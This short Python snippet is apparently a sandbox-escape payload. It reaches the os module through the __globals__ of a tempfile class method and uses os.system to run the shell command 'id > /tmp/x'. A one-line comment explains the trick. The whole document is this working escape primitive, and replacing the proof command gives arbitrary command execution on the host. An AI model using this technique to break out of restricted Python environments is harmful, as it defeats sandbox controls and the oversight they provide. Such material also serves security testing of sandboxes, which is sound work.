# why: the globals of a library's method hold os
import tempfile
tempfile.TemporaryDirectory.__init__.__globals__["_os"].system("id > /tmp/x")
